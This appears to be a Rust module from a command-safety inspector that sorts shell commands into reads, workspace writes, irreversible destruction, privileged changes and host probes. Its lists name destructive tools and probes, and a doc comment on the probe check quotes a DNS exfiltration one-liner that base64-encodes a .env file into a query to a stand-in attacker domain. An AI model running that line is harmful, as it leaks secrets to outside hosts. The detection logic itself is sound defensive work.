//! Core utilities and shell builtins: reads, workspace writes, local
//! destruction, processes and the system.

use super::argv::{any_unresolved, has_flag, operands, option_arg, option_value, option_values};
use super::place::{self, Place};
use super::walk::Walker;
use super::word::Arg;
use super::{destroy, external, privileged, read, unknown, write};
use super::{modes, scripts};
use crate::classify::Inspection;
use crate::mutant::Mutant;
use rbv_protocol::Reversibility::Irreversible;

/// Programs and builtins with no effect beyond the session's own shell.
#[rustfmt::skip]
const READS: &[&str] = &[
    // files and text
    "ls", "dir", "vdir", "cat", "bat", "batcat", "less", "more", "most", "head", "tail", "wc",
    "grep", "egrep", "fgrep", "rg", "ag", "ack", "cut", "tr", "nl", "tac", "rev", "fold", "fmt",
    "column", "paste", "join", "uniq", "comm", "diff", "diff3", "cmp", "file", "stat", "du",
    "df", "tree", "jq", "xxd", "od", "hexdump", "strings", "md5sum", "sha1sum", "sha224sum",
    "sha256sum", "sha384sum", "sha512sum", "shasum", "b2sum", "cksum", "sum", "base64",
    "base32", "look", "expand", "unexpand", "pr", "zcat", "zless", "zgrep", "bzcat", "xzcat",
    "lz4cat", "zstdcat", "realpath", "readlink", "basename", "dirname", "pathchk", "numfmt", "tsort",
    "envsubst", "iconv", "wdiff", "colordiff", "delta", "difft", "fd", "fdfind", "locate",
    "glow",
    // the session and the system, read only
    "pwd", "which", "whereis", "type", "whoami", "id", "groups", "hostname", "uname", "date",
    "logname", "hostid",
    "cal", "uptime", "ps", "pgrep", "pidof", "top", "htop", "btop", "free", "vmstat", "iostat",
    "lsof", "nproc", "lscpu", "lsblk", "blkid", "findmnt", "getconf", "locale", "tty", "users",
    "who", "w", "last", "arch", "sw_vers", "ldd", "lsusb", "lspci", "sysctl", "man", "help",
    "info", "whatis", "apropos", "tldr", "history", "printenv", "getfacl", "lsattr", "namei",
    "getent",
    // output and computation
    "echo", "printf", "seq", "yes", "sleep", "true", "false", ":", "test", "[", "expr", "bc",
    "dc", "factor", "units", "tput", "clear", "stty", "cowsay", "figlet",
    // shell bookkeeping
    "dirs", "export", "set", "unset", "shift", "local", "declare",
    "typeset", "readonly", "return", "exit", "break", "continue", "wait", "read", "mapfile",
    "readarray", "hash", "umask", "shopt", "getopts", "let", "jobs", "bg", "fg", "disown",
    "times", "logout", "suspend", "compgen", "complete", "caller", "ulimit", "unalias",
    "compopt",
];

/// Programs that send a name or a probe to other hosts: name lookups, whose
/// query travels to the name servers of whoever owns the name, and ICMP and
/// route probes. With literal arguments they only ask (auto).
#[rustfmt::skip]
const PROBES: &[&str] = &[
    "ping", "ping6", "fping", "arping", "dig", "kdig", "drill", "delv", "nslookup", "host",
    "whois", "traceroute", "traceroute6", "tracepath", "tracepath6", "mtr", "resolvectl",
];

/// Reversible writes of workspace files.
#[rustfmt::skip]
const WRITES: &[&str] = &[
    "mkdir", "touch", "ln", "rmdir", "install", "patch", "mktemp", "split", "csplit", "tar",
    "zip", "unzip", "gzip", "gunzip", "bzip2", "bunzip2", "xz", "unxz", "zstd", "unzstd", "lz4",
    "7z", "7za", "ar", "cpio", "vim", "vi", "nvim", "nano", "emacs", "code", "micro", "hx",
    "dos2unix", "unix2dos", "mkfifo", "sponge",
];

/// Programs that destroy local data beyond the actor's own undo.
#[rustfmt::skip]
const DESTROYS: &[&str] = &[
    "rm", "unlink", "shred", "wipe", "srm", "truncate", "wipefs", "fdisk", "sfdisk", "gdisk",
    "cfdisk", "parted", "mkswap", "mke2fs", "blkdiscard", "fstrim",
];

#[rustfmt::skip]
const SYSTEM_READS: &[&str] = &[
    "status", "show", "cat", "list-units", "list-unit-files", "list-timers", "list-jobs",
    "is-active", "is-enabled", "is-failed", "help", "list", "print", "--version",
];

pub fn classify(w: &mut Walker, name: &str, args: &[Arg]) -> Option<Inspection> {
    let found = match name {
        "cd" | "pushd" | "popd" => {
            let words: Vec<&Arg> = args.iter().collect();
            match &mut w.declared {
                Some(d) => d.builtin(name, &words),
                None => {
                    let op = place::DirOp::read(name, &words);
                    let to = match op {
                        place::DirOp::Cd(Some(dir)) | place::DirOp::Push(Some(dir), _) => {
                            entered(std::slice::from_ref(dir), w.cwd)
                        }
                        _ => None,
                    };
                    let mut here = w.cwd;
                    w.dirs.apply(&op, &mut here, to);
                    w.cwd = here;
                }
            }
            w.moved();
            read(format!("`{name}` changes the directory"))
        }
        "find" => scripts::find(w, args),
        "sed" | "gsed" => scripts::sed(w, args),
        "awk" | "gawk" | "mawk" | "nawk" => scripts::awk(w.planted(Mutant::AwkSourcesBlind), args),
        "tee" => {
            // A device with no effect (`/dev/null`, `/dev/stderr`, a process
            // substitution's `/dev/fd/N`) is no file, as for a redirection.
            let files: Vec<_> = operands(args)
                .into_iter()
                .filter(|a| !super::walk::is_null_device(a))
                .collect();
            let found = if files.is_empty() {
                read("`tee` copies its input to the output")
            } else if has_flag(name, args, Some('a'), &["append"]) {
                write("`tee -a` appends to files")
            } else {
                destroy(Irreversible, "`tee` truncates the files it writes")
            };
            writes_to(w, "`tee` writes", &files, found)
        }
        "sort" => match option_value(name, args, Some("-o"), Some("--output")) {
            Some(out) if out != "/dev/null" => {
                destroy(Irreversible, format!("`sort -o` replaces `{out}`"))
            }
            _ => read("`sort` reads"),
        },
        "uniq" if operands(args).len() >= 2 => {
            destroy(Irreversible, "`uniq IN OUT` replaces its output file")
        }
        "dd" => {
            if args
                .iter()
                .any(|a| !a.resolved || a.text.starts_with("of="))
            {
                destroy(Irreversible, "`dd of=` overwrites its target")
            } else {
                read("`dd` without `of=` writes to stdout")
            }
        }
        "cp" | "mv" | "ln" => copy_or_move(w, name, args),
        "touch" | "mkdir" | "mkfifo" | "install" | "patch" | "dos2unix" | "unix2dos"
            if !has_owner(name, args) =>
        {
            let found = match name {
                "install" | "mkdir" | "mkfifo" => modes::created_with_mode(
                    name,
                    option_arg(name, args, Some("-m"), Some("--mode")).as_ref(),
                )
                .unwrap_or_else(|| write(format!("`{name}` writes workspace files"))),
                _ => write(format!("`{name}` writes workspace files")),
            };
            // install(1): the destination is `-t DIR` when given, every
            // operand with `-d`, else the last operand.
            let named = (name == "install")
                .then(|| option_arg(name, args, Some("-t"), Some("--target-directory")))
                .flatten();
            let targets = if let Some(dir) = named.as_ref() {
                vec![dir]
            } else if name == "install" && !has_flag(name, args, Some('d'), &["directory"]) {
                operands(args).last().copied().into_iter().collect()
            } else {
                operands(args)
            };
            writes_to(w, &format!("`{name}` writes"), &targets, found)
        }
        "chmod" | "chown" | "chgrp" | "chattr" | "setfacl" => modes::classify(w, name, args),
        "install" | "mkdir" | "mkfifo" if has_owner(name, args) => destroy(
            Irreversible,
            format!("`{name} -o` gives the files another owner"),
        ),
        "kill" => {
            let probe = args
                .iter()
                .any(|a| matches!(a.text.as_str(), "-0" | "-l" | "-L" | "--list"));
            if probe {
                read("`kill -0`/`-l` only probes")
            } else {
                destroy(
                    Irreversible,
                    "`kill` terminates processes; their state is lost",
                )
            }
        }
        "pkill" | "killall" | "killall5" | "xkill" => destroy(
            Irreversible,
            format!("`{name}` terminates processes; their state is lost"),
        ),
        "shutdown" | "reboot" | "halt" | "poweroff" | "init" | "telinit" => {
            destroy(Irreversible, format!("`{name}` stops the machine"))
        }
        "systemctl" | "service" | "launchctl" | "rc-service" => {
            let ops = operands(args);
            let verb = if name == "service" {
                ops.get(1)
            } else {
                ops.first()
            };
            match verb {
                Some(v) if v.resolved && SYSTEM_READS.contains(&v.text.as_str()) => {
                    read(format!("`{name} {}` reads", v.text))
                }
                None if name == "systemctl" => read("`systemctl` lists units"),
                _ => destroy(Irreversible, format!("`{name}` changes system services")),
            }
        }
        "crontab" => {
            if has_flag(name, args, Some('l'), &[]) {
                read("`crontab -l` lists")
            } else {
                destroy(Irreversible, "`crontab` replaces or removes the crontab")
            }
        }
        "fc" if has_flag(name, args, Some('l'), &[]) => read("`fc -l` lists the history"),
        "at" | "batch" => unknown(format!("`{name}` schedules commands for later")),
        "date" if has_flag(name, args, Some('s'), &["set"]) => {
            privileged("`date -s` sets the clock")
        }
        "hostname" if !operands(args).is_empty() => privileged("`hostname NAME` renames the host"),
        "hash" if has_flag(name, args, Some('p'), &[]) => {
            unknown("`hash -p` makes a command name run another program")
        }
        // bash(1) `enable [-a] [-dnps] [-f filename] [name ...]`: `-f`
        // loads a builtin's code from a shared object into the shell, `-n`
        // and `-d` take a builtin away so that every later use of its name
        // runs what PATH finds; without them it lists or turns builtins on.
        "enable" => {
            if any_unresolved(args) {
                unknown("`enable` gets arguments known only at run time")
            } else if has_flag(name, args, Some('f'), &[]) {
                unknown("`enable -f` loads a builtin's code from a shared object")
            } else if (has_flag(name, args, Some('n'), &[]) || has_flag(name, args, Some('d'), &[]))
                && !operands(args).is_empty()
            {
                unknown("`enable -n` takes builtins away: later names run what PATH finds")
            } else {
                read("`enable` lists or turns on builtins")
            }
        }
        "sysctl"
            if has_flag(name, args, Some('w'), &["write"])
                || args.iter().any(|a| a.text.contains('=')) =>
        {
            privileged("`sysctl -w` changes kernel settings")
        }
        "mount" | "umount" | "swapon" | "swapoff" | "modprobe" | "insmod" | "rmmod" => {
            if args.is_empty() {
                read(format!("`{name}` lists"))
            } else {
                privileged(format!("`{name}` changes the system"))
            }
        }
        _ if PROBES.contains(&name) => probe(w, name, args),
        "getent"
            if operands(args)
                .first()
                .is_some_and(|db| db.text.contains("host"))
                && any_unresolved(args) =>
        {
            probe(w, name, args)
        }
        _ if DESTROYS.contains(&name) || name.starts_with("mkfs") => destroy(
            Irreversible,
            format!("`{name}` destroys data; nothing keeps a copy"),
        ),
        _ if WRITES.contains(&name) => {
            let found = write(format!("`{name}` writes workspace files"));
            let dirs = extract_dirs(name, args);
            writes_to(
                w,
                &format!("`{name}` extracts into"),
                &dirs.iter().collect::<Vec<_>>(),
                found,
            )
        }
        _ if READS.contains(&name) => read(format!("`{name}` has no effect beyond reading")),
        _ => return None,
    };
    Some(found)
}

/// Files a program writes that its options or operands name, beyond the
/// workspace files it edits: the output of a compiler or build (`-o FILE`:
/// gcc(1), clang, rustc, `go help build`; cargo's `--target-dir`), the
/// archive tar creates (`-f`, GNU tar manual, with `-c`, `-r`, `-u`,
/// `-A`), zip's archive (zip(1): `zip [options] zipfile file …`), split's
/// output prefix (split(1): `split [FILE [PREFIX]]`), gawk's in-place
/// files (gawk manual, "Enabling In-Place File Editing": `-i inplace`),
/// cmake's install prefix (`cmake --install DIR --prefix P`). Each is
/// judged by where it lies, as a redirection's file is.
pub fn outputs(name: &str, args: &[Arg]) -> Vec<Arg> {
    let ops = operands(args);
    let arg = |short: Option<&str>, long: Option<&str>| option_arg(name, args, short, long);
    let found: Vec<Arg> = match name {
        "gcc" | "g++" | "cc" | "c++" | "clang" | "clang++" | "rustc" | "tcc" => {
            arg(Some("-o"), None).into_iter().collect()
        }
        "go" if ops
            .first()
            .is_some_and(|s| matches!(s.text.as_str(), "build" | "test")) =>
        {
            arg(Some("-o"), None).into_iter().collect()
        }
        "cargo" => arg(None, Some("--target-dir"))
            .into_iter()
            .chain(arg(None, Some("--artifact-dir")))
            .collect(),
        "cmake" if args.iter().any(|a| a.text == "--install") => {
            arg(None, Some("--prefix")).into_iter().collect()
        }
        // The traditional form (`tar czf FILE …`): the key letters come
        // first without a dash, and `f` takes the next word.
        "tar" | "gtar" | "bsdtar"
            if args
                .first()
                .is_some_and(|a| !a.text.starts_with('-') && a.text.contains(['c', 'r', 'u'])) =>
        {
            let key = &args[0].text;
            key.contains('f')
                .then(|| args.get(1).cloned())
                .flatten()
                .into_iter()
                .collect()
        }
        "tar" | "gtar" | "bsdtar"
            if has_flag(
                name,
                args,
                Some('c'),
                &["create", "append", "update", "catenate"],
            ) =>
        {
            arg(Some("-f"), Some("--file")).into_iter().collect()
        }
        "zip" => ops.first().map(|a| (*a).clone()).into_iter().collect(),
        "split" if ops.len() >= 2 => ops.last().map(|a| (*a).clone()).into_iter().collect(),
        "gawk" | "awk"
            if option_values(name, args, Some("-i"), Some("--include"))
                .iter()
                .any(|v| v.text == "inplace") =>
        {
            ops.iter().skip(1).map(|a| (*a).clone()).collect()
        }
        _ => Vec::new(),
    };
    found
        .into_iter()
        .filter(|a| !a.text.is_empty() && a.text != "-" && !null(a))
        .collect()
}

/// The outputs of `name args` (see [`outputs`]) joined to `found`.
pub fn with_outputs(w: &Walker, name: &str, args: &[Arg], found: Inspection) -> Inspection {
    let files = outputs(name, args);
    writes_to(
        w,
        &format!("`{name}` writes"),
        &files.iter().collect::<Vec<_>>(),
        found,
    )
}

/// The directory an archiver extracts or writes into: tar(1) `-C,
/// --directory=DIR` ("change to DIR before performing any operations"),
/// unzip(1) `-d exdir`, 7-Zip's `-o{dir}`, cpio(1) `-D, --directory`.
/// What lands there is judged by where it lies, as a redirection is.
fn extract_dirs(name: &str, args: &[Arg]) -> Vec<Arg> {
    // tar reads from `-C DIR` when it creates an archive; it writes
    // there when it extracts (`-x`, `--extract`, `--get`, or the
    // traditional first word without a dash: `tar xzf a.tgz`).
    let extracts = has_flag(name, args, Some('x'), &["extract", "get"])
        || args
            .first()
            .is_some_and(|a| !a.text.starts_with('-') && a.text.contains('x'));
    match name {
        "tar" if extracts => option_arg(name, args, Some("-C"), Some("--directory")),
        "unzip" => option_arg(name, args, Some("-d"), None),
        "cpio" => option_arg(name, args, Some("-D"), Some("--directory")),
        "7z" | "7za" => args.iter().find_map(|a| {
            let dir = a.text.strip_prefix("-o").filter(|d| !d.is_empty())?;
            Some(Arg {
                text: dir.to_owned(),
                ..a.clone()
            })
        }),
        _ => None,
    }
    .into_iter()
    .collect()
}

fn null(a: &Arg) -> bool {
    a.resolved && a.text == "/dev/null"
}

fn has_owner(name: &str, args: &[Arg]) -> bool {
    option_arg(name, args, Some("-o"), Some("--owner")).is_some()
}

/// `found`, raised by where the files it writes lie (the workspace
/// boundary).
pub(super) fn writes_to(w: &Walker, what: &str, targets: &[&Arg], found: Inspection) -> Inspection {
    targets
        .iter()
        .filter(|_| !w.planted(Mutant::WorkspaceBlind))
        .filter_map(|t| place::write(t, w.place(t), what, w.mutant))
        .fold(found, Inspection::join)
}

/// The directory `cd DIR`/`pushd DIR` enters, as far as it matters: the
/// places the default rule knows to be outside the workspace, and a climb
/// above it (`cd ..`). An absolute directory elsewhere, the home directory
/// itself and a directory known only at run time may be the workspace.
fn entered(args: &[Arg], cwd: Option<Place>) -> Option<Place> {
    let Some(dir) = operands(args).first().copied() else {
        // `cd` alone goes home.
        return None;
    };
    match place::of(dir) {
        Place::Workspace => cwd,
        Place::Elsewhere if !dir.text.starts_with(['/', '~']) => Some(Place::Elsewhere),
        p @ (Place::Temp | Place::System | Place::HomeConfig | Place::RepoConfig) => Some(p),
        _ => None,
    }
}

fn copy_or_move(w: &Walker, name: &str, args: &[Arg]) -> Inspection {
    let ops = operands(args);
    let named = option_arg(name, args, Some("-t"), Some("--target-directory"));
    let target = named.as_ref().or_else(|| ops.last().copied());
    if name == "mv" && target.is_some_and(null) {
        return destroy(Irreversible, "`mv … /dev/null` deletes the source");
    }
    if name == "cp" && ops.first().is_some_and(|a| null(a)) {
        return destroy(Irreversible, "`cp /dev/null FILE` empties the file");
    }
    let found = if name == "ln" && has_flag(name, args, Some('f'), &["force"]) && ops.len() >= 2 {
        // `-f` removes an existing destination to put the link there: its
        // content is gone, as with `cp /dev/null FILE`.
        destroy(
            Irreversible,
            "`ln -f` removes the destination file it replaces",
        )
    } else if name == "ln" {
        write("`ln` links workspace files")
    } else {
        write(format!("`{name}` copies or renames workspace files"))
    };
    let what = format!("`{name}` writes");
    // `mv` also removes its sources.
    let mut targets: Vec<&Arg> = target.into_iter().collect();
    if name == "mv" {
        targets.extend(ops.iter().copied().filter(|o| Some(*o) != target));
    }
    writes_to(w, &what, &targets, found)
}

/// A lookup or probe carries data out when the command chooses it at run
/// time: a name built from an expansion (`dig $(cat .env | base64).evil.example`)
/// is delivered to the name's owner, a ping payload (`-p`) to the target, and
/// names read from a file (`dig -f`, `nslookup` reading its input) may be
/// anything.
fn probe(w: &Walker, name: &str, args: &[Arg]) -> Inspection {
    if w.planted(Mutant::ProbeDataBlind) {
        return read(format!("`{name}` queries other hosts"));
    }
    if any_unresolved(args) {
        return external(format!(
            "`{name}` sends a name or payload known only at run time to other hosts: data leaves in the query"
        ));
    }
    let payload = match name {
        "ping" | "ping6" | "fping" => has_flag(name, args, Some('p'), &[]),
        "dig" | "kdig" => has_flag(name, args, Some('f'), &[]),
        "nslookup" => operands(args).is_empty(),
        _ => false,
    };
    if payload {
        external(format!(
            "`{name}` sends data the inspector does not see (a payload pattern or names from input)"
        ))
    } else {
        read(format!("`{name}` queries other hosts with literal names"))
    }
}
